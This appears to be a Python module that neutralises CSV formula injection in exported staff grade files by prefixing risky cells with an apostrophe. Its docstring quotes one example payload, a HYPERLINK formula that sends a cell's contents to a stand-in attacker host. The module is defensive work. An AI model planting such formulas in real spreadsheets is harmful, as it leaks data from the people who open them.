"""CSV that is safe to open in a spreadsheet: a cell is data, never a formula.

A display name like ``=HYPERLINK("https://evil.example/?"&A1,"click")`` written as is into
``/staff/grades.csv`` becomes a live formula when staff open the file in Excel or Sheets
(CSV injection, OWASP; issue 21). Every text cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return (or their full-width forms) gets a leading apostrophe, which the
spreadsheet shows as text; numbers (``-1.50``) are left alone so they stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will read it as data (see the module's docstring)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The rows as CSV text, every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
